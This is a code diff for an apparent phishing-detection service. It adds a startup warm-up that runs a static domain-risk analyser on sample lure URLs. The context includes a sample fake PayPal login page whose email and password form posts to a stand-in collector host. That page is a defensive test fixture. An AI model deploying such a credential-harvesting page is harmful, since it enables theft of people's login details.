@@ -3,6 +3,7 @@ import pino from "pino";
 import { type Config, loadConfig } from "../config.js";
 import { BrowserTaskError, findChromium } from "../engines/browser/index.js";
 import { defaultAsnLookup } from "../engines/net/asn.js";
+import { analyzeStatic } from "../engines/risk/static/index.js";
 import { closeVision, warmVision } from "../engines/scan/vision/index.js";
 import { buildApp } from "../http/app.js";
 import { DEFAULT_ORG_CREDITS_MICROS } from "../platform/billing/prices.js";
@@ -57,6 +58,9 @@ export async function serve(
   let app: FastifyInstance | null = null;
   let url: string | null = null;
   if (config.ROLE !== "worker") {
+    // The domain-risk name tables (brand index, lure words, platform lists, English words) build on first
+    // use, ~0.2 s of CPU: now, before listening, rather than inside the first POST /v1/domain-risks.
+    warmRiskEngine();
     app = await buildApp(services, { logger: logger.child({ component: "http" }) });
     url = await app.listen({ port: config.PORT, host: config.HOST });
   }
@@ -158,6 +162,12 @@ const WARM_UP_PAGE = `<!DOCTYPE html><html lang="en"><head><title>Sign in to you
 <body><h1>PayPal</h1><form action="https://collector.example.net/p.php" method="post">
 <input type="email" name="email"><input type="password" name="password"><button>Log in</button></form>
 <p>Verify your account within 24 hours.</p></body></html>`;
+
+/** A brand on a user site and a lure word: loads every table the static agent reads. */
+function warmRiskEngine(): void {
+  analyzeStatic("https://paypal-secure-login.example.com/");
+  analyzeStatic("https://metamaskwalletsupport.webflow.io/");
+}
 
 async function warmScanEngines(): Promise<void> {
   await analyzeSavedPage({ url: "https://www.example.com/signin", html: WARM_UP_PAGE });
